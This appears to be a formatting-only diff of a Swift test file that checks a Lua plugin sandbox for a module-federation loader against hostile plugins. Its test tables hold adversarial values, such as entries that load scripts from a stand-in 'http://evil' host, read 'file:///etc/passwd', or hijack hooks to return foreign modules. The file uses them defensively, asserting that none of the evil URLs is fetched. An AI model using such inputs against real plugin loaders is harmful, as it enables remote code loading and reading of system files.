@@ -165,7 +165,9 @@ import Testing
                 site.log.messages.compactMap { $0.split(separator: " ").last.map(String.init) }.filter {
                     Lifecycle.named[$0] != nil
                 })
-            let never = ["beforeInit", "init", "beforeRegisterShare", "initContainerShareScopeMap", "handlePreloadModule"]
+            let never = [
+                "beforeInit", "init", "beforeRegisterShare", "initContainerShareScopeMap", "handlePreloadModule",
+            ]
             #expect(heard.count > 25 && heard.isDisjoint(with: never.dropLast()), "\(heard.sorted())")
             let urls = site.memory?.requestedURLs ?? []
             #expect(!urls.contains { $0.contains("evil") })
@@ -176,22 +178,28 @@ import Testing
 
     /// What a listener can return, or do in place of returning.
     private static let values = [
-        "nil", "false", "true", "0", "math.mininteger", "math.huge", "0/0", "'text'", "'\\255\\0'", "{}", "{ 1, 2, 3 }", "args",
+        "nil", "false", "true", "0", "math.mininteger", "math.huge", "0/0", "'text'", "'\\255\\0'", "{}", "{ 1, 2, 3 }",
+        "args",
         "function() return { from = 'guest', level = 'guest' } end",
         "function() return function() return { from = 'guest', level = 'guest' } end end",
         "'MARK = true return { init = function() end, get = function() return function() return { from = \"guest\" } end end }'",
         "{ script = 'MARK = true return { get = function() return function() return { from = \"guest\" } end end }' }",
-        "{ url = 'http://evil/entry.lua' }", "{ url = 'file:///etc/passwd' }", "{ script = { script = { url = 'http://evil/entry.lua' } } }",
+        "{ url = 'http://evil/entry.lua' }", "{ url = 'file:///etc/passwd' }",
+        "{ script = { script = { url = 'http://evil/entry.lua' } } }",
         "{ url = 5, headers = 5, timeout = math.mininteger, maxBytes = math.mininteger }", "{ timeout = 0/0 }",
         "{ init = function() end, get = function() return function() return { from = 'guest' } end end }",
-        "{ from = 'guest', level = 'guest' }", "{ id = 'own/x' }", "{ status = 200, body = '{}' }", "{ body = 'x', status = math.mininteger }",
+        "{ from = 'guest', level = 'guest' }", "{ id = 'own/x' }", "{ status = 200, body = '{}' }",
+        "{ body = 'x', status = math.mininteger }",
         "{ cssAssets = { 'http://evil/a.css' }, jsAssetsWithoutEntry = { 'http://evil/a.lua' }, entryAssets = { { name = 'r', url = 'http://evil/entry.lua' } } }",
         "{ shared = { lib = function() return { level = 'guest' } end }, useTreesShaking = false }",
         "(function() local t = {} for i = 1, 40 do t = { t } end return t end)()", "coroutine.create(function() end)",
         "(function() local t = {} t[math.mininteger] = 1 t[math.maxinteger] = 2 t[1.5] = 3 t[true] = 4 return t end)()",
-        "(function() local t = {} t.t = t return t end)()", "setmetatable({}, { __index = function() error('no') end, __pairs = 5 })",
-        "error()", "error(nil)", "error({})", "error({ code = 5, message = {} })", "error(function() end)", "error(setmetatable({}, { __tostring = 5 }))",
-        "error('x')", "error(args)", "(function() require('mf').sleep(1) return { from = 'guest' } end)()", "args.retry and args.retry('http://evil/entry.lua')",
+        "(function() local t = {} t.t = t return t end)()",
+        "setmetatable({}, { __index = function() error('no') end, __pairs = 5 })",
+        "error()", "error(nil)", "error({})", "error({ code = 5, message = {} })", "error(function() end)",
+        "error(setmetatable({}, { __tostring = 5 }))",
+        "error('x')", "error(args)", "(function() require('mf').sleep(1) return { from = 'guest' } end)()",
+        "args.retry and args.retry('http://evil/entry.lua')",
         "(function() for k in pairs(args) do args[k] = 'x' end return args end)()",
         "(function() for k in pairs(args) do args[k] = math.mininteger end return args end)()",
         "(function() for k in pairs(args) do args[k] = function() return { from = 'guest', level = 'guest' } end end return args end)()",
@@ -250,18 +258,26 @@ import Testing
 
     /// One hook's listener, what `changes` grants, and what comes of a load with the grant.
     private static let granted: [(hook: String, body: String, grant: String, load: String, result: LuaValue)] = [
-        ("beforeRequest", "args.id = 'listed/x' return args", "'disk/*', 'listed/x'", "mf.loadRemote('disk/x').from", "host"),
+        (
+            "beforeRequest", "args.id = 'listed/x' return args", "'disk/*', 'listed/x'", "mf.loadRemote('disk/x').from",
+            "host"
+        ),
         ("onLoad", "return function() return 'guest' end", "'disk/x'", "mf.loadRemote('disk/x')()", "guest"),
         (
-            "getModuleFactory", "return function() return { from = 'guest' } end", "'disk/x'", "mf.loadRemote('disk/x').from",
+            "getModuleFactory", "return function() return { from = 'guest' } end", "'disk/x'",
+            "mf.loadRemote('disk/x').from",
             "guest"
         ),
         (
-            "loadEntry", "return { init = function() end, get = function() return function() return { from = 'guest' } end end }",
+            "loadEntry",
+            "return { init = function() end, get = function() return function() return { from = 'guest' } end end }",
             "'disk/**'", "mf.loadRemote('disk/x').from", "guest"
         ),
         ("createScript", "return { url = 'http://evil/entry.lua' }", "'disk/**'", "mf.loadRemote('disk/x').io", "nil"),
-        ("loadEntryError", "return args.retry('http://evil/entry.lua')", "'gone/**'", "mf.loadRemote('gone/x').io", "nil"),
+        (
+            "loadEntryError", "return args.retry('http://evil/entry.lua')", "'gone/**'", "mf.loadRemote('gone/x').io",
+            "nil"
+        ),
         (
             "afterResolve", "args.remoteInfo = { name = 'disk', entry = 'http://evil/entry.lua' } return args", "'*'",
             "mf.loadRemote('disk/x').io", "nil"
@@ -280,13 +296,18 @@ import Testing
             "errorLoadRemote", "if args.lifecycle == 'onLoad' then return { from = 'guest' } end", "'gone/x'",
             "mf.loadRemote('gone/x').from", "guest"
         ),
-        ("loadShare", "return function() return { level = 'guest' } end", "'share:config'", "mf.loadShare('config')().level", "guest"),
         (
-            "beforeLoadShare", "args.shareInfo = { lib = function() return { level = 'guest' } end } return args", "'share:config'",
+            "loadShare", "return function() return { level = 'guest' } end", "'share:config'",
+            "mf.loadShare('config')().level", "guest"
+        ),
+        (
+            "beforeLoadShare", "args.shareInfo = { lib = function() return { level = 'guest' } end } return args",
+            "'share:config'",
             "mf.loadShare('config')().level", "host"
         ),
         (
-            "resolveShare", "args.resolver = function() return { lib = function() return { level = 'guest' } end } end return args",
+            "resolveShare",
+            "args.resolver = function() return { lib = function() return { level = 'guest' } end } end return args",
             "'share:config'", "mf.loadShare('config')().level", "host"
         ),
     ]
@@ -297,7 +318,8 @@ import Testing
         for row in Self.granted {
             let folder = try TemporaryFolder()
             let file = try folder.write(
-                "granted-plugin.lua", "return { name = 'granted-plugin', \(row.hook) = function(args) \(row.body) end }")
+                "granted-plugin.lua", "return { name = 'granted-plugin', \(row.hook) = function(args) \(row.body) end }"
+            )
             try await withSite(fetchingWith: InMemoryFetcher(Self.fetcher)) { site in
                 let plugins = "{ \"\(file)\", {}, tenant = \"acme\" }"
                 let results = try await site.lua(
@@ -311,7 +333,8 @@ import Testing
                 let results = try await site.lua(
                     Self.host(level, tenant: "net = { 'evil' }, changes = { 'unrelated/**' }", plugins: plugins)
                         + "local ok, result = pcall(function() return \(row.load) end) return ok and result")
-                #expect([false, "host", "table"].contains(results.first ?? .nil) || row.hook == "onLoad", "\(row.hook)")
+                #expect(
+                    [false, "host", "table"].contains(results.first ?? .nil) || row.hook == "onLoad", "\(row.hook)")
                 let told = site.log.messages.filter { $0.contains("LIMIT-009") && $0.contains("acme/granted-plugin") }
                 #expect(told.count == 1, "\(row.hook): \(site.log.messages)")
             }
@@ -328,7 +351,8 @@ import Testing
         for grant in ["'disk/**'", "'*'", "'other/**'", "'**'"] {
             try await withSite(fetchingWith: InMemoryFetcher(Self.fetcher)) { site in
                 let results = try await site.lua(
-                    Self.host(level, tenant: "changes = { \(grant) }", plugins: "{ \"\(file)\", {}, tenant = \"acme\" }")
+                    Self.host(
+                        level, tenant: "changes = { \(grant) }", plugins: "{ \"\(file)\", {}, tenant = \"acme\" }")
                         + "return mf.loadRemote('d/x').io")
                 #expect(results.first == "table", "\(grant)")
                 #expect(site.log.messages.contains { $0.contains("LIMIT-009") })
@@ -355,7 +379,8 @@ import Testing
             try await withSite(fetchingWith: InMemoryFetcher(Self.fetcher)) { site in
                 try await site.lua(
                     Self.host(level, tenant: "hears = { \(hears) }", plugins: "{ \"\(file)\", {}, tenant = \"acme\" }")
-                        + "for _, id in ipairs { 'd/x', 'listed/x', 'own/x', 'other/x' } do mf.loadRemote(id) end mf.loadShare('config')")
+                        + "for _, id in ipairs { 'd/x', 'listed/x', 'own/x', 'other/x' } do mf.loadRemote(id) end mf.loadShare('config')"
+                )
                 let heard = site.log.messages.compactMap { $0.split(separator: "] ").last.map(String.init) }
                 #expect(heard == right, "\(hears)")
             }
